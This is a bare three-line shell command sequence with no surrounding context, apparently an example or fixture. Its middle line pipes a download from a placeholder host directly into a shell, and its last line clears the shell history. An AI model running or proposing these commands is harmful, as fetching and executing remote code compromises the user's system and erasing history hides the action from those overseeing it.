ls
curl http://x/y | sh
history -c
